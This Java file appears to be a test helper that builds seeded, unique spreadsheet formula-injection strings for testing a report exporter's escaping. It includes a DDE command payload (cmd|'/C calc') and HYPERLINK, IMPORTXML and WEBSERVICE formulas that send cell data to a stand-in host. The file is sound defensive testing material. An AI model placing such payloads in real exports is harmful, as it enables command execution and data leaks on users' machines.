package org.networkspc.reports.pack;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Texts that a spreadsheet might run as a formula, or trip over: seeded, all different. */
final class HostileStrings {
    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "|", "%", "\t=", " =", "\n=", "'=", "\"=", "==", "=-", "+=", "-+", "＝", "＋", "－", "＠",
            "\u00A0=", ";=", ",=", "=\t", "", " ", "'", "''", "@@", "-@");
    private static final List<String> REST = List.of(
            "1+1",
            "SUM(A1:A9)",
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
            "IMPORTXML(\"http://example.invalid\",\"//a\")",
            "WEBSERVICE(\"http://example.invalid\")",
            "DDE(\"soffice\",\"x\",\"y\")",
            "A1",
            "3.5e",
            "1,2;3\"4",
            "Ward <b>&amp;</b> 'x'",
            "_x0041__x000D_",
            "{=1}",
            "R1C1",
            "Ysbyty Gwynedd – Ŵyddgrug",
            "病棟 🙂",
            "TRUE",
            "#REF!",
            "1;2",
            "x\ny");

    private HostileStrings() {}

    static List<String> of(int count) {
        Random random = new Random(20_241);
        List<String> strings = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            String start = STARTS.get(i % STARTS.size());
            String rest = REST.get(i / STARTS.size() % REST.size());
            strings.add(start + rest + (i < STARTS.size() * REST.size() ? "" : random.nextInt(1_000_000)));
        }
        return strings;
    }
}
